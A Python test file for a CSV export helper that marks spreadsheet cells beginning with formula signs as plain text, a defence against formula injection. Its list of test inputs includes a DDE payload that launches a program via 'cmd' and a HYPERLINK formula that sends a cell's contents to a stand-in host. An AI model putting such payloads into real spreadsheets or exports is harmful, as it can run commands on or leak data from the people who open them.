"""No cell of a table that the house hands out is run as a formula."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from beside.common.cells import RISKY, csv_of, harmless

NASTY = (
    "=1+1",
    "+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1)",
    '=HYPERLINK("http://x/?"&A1)',
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1",
)


@pytest.mark.parametrize("cell", NASTY)
def test_what_might_run_is_marked_as_text(cell: str) -> None:
    assert harmless(cell) == f"'{cell}"


@pytest.mark.parametrize("cell", ["赵桂芳", "10013572468", "a=b", "3-2", "", "'=1", 5, -3, None])
def test_what_cannot_stays_as_it_is(cell: object) -> None:
    assert harmless(cell) == cell


@given(st.lists(st.lists(st.text(), min_size=1, max_size=4), min_size=1, max_size=5))
def test_of_any_table_no_cell_begins_with_a_sign_that_runs(rows: list[list[str]]) -> None:
    content = csv_of(rows)
    assert content.startswith(b"\xef\xbb\xbf")
    read = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    assert not any(cell.startswith(RISKY) for row in read for cell in row)
